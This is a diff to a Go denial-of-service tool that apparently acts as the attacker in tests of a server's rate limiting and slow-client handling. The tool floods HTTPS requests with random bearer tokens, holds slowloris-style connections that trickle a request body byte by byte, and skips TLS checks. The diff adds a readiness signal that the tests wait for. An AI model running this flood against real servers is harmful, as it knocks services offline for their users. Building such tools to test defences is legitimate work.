@@ -22,6 +22,7 @@ import (
 	"net/http"
 	"os"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"time"
 )
@@ -40,17 +41,19 @@ func main() {
 		dialer.LocalAddr = &net.TCPAddr{IP: net.ParseIP(*source)}
 	}
 	tlsConfig := &tls.Config{InsecureSkipVerify: true} //nolint:gosec // an attacker checks nothing
-	var sent, refused atomic.Int64
+	var sent, refused, open atomic.Int64
 
 	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: dialer.DialContext, TLSClientConfig: tlsConfig,
 		MaxIdleConnsPerHost: 64}}
 	for range *junk {
 		go func() {
+			var answered sync.Once
 			for {
 				req, _ := http.NewRequest(http.MethodGet, "https://"+*target+*path, nil)
 				req.Header.Set("Authorization", "Bearer "+randomToken())
 				resp, err := client.Do(req)
 				sent.Add(1)
+				answered.Do(func() { open.Add(1) })
 				if err != nil {
 					continue
 				}
@@ -75,13 +78,20 @@ func main() {
 	for _, token := range tokens {
 		for range *trickle {
 			go func() {
+				var sending sync.Once
 				for {
-					slowRequest(dialer, tlsConfig, *method, *target, *path, token)
+					slowRequest(dialer, tlsConfig, *method, *target, *path, token, func() { sending.Do(func() { open.Add(1) }) })
 					time.Sleep(100 * time.Millisecond)
 				}
 			}()
 		}
 	}
+	// "attacking" once every flooder has had an answer and every slow
+	// connection has sent its headers: the tests wait for it.
+	for want := int64(*junk + *trickle*len(tokens)); open.Load() < want; {
+		time.Sleep(10 * time.Millisecond)
+	}
+	fmt.Println("attacking")
 	for {
 		time.Sleep(5 * time.Second)
 		fmt.Printf("junk requests sent %d, refused with 429 %d\n", sent.Load(), refused.Load())
@@ -90,7 +100,7 @@ func main() {
 
 // slowRequest sends the headers of a write whose body is 1 MiB, then the
 // body a byte a second, until the server closes the connection.
-func slowRequest(dialer *net.Dialer, config *tls.Config, method, target, path, token string) {
+func slowRequest(dialer *net.Dialer, config *tls.Config, method, target, path, token string, sent func()) {
 	raw, err := dialer.Dial("tcp", target)
 	if err != nil {
 		return
@@ -109,6 +119,7 @@ func slowRequest(dialer *net.Dialer, config *tls.Config, method, target, path, t
 	if w.Flush() != nil {
 		return
 	}
+	sent()
 	for {
 		time.Sleep(time.Second)
 		if _, err := conn.Write([]byte(" ")); err != nil {
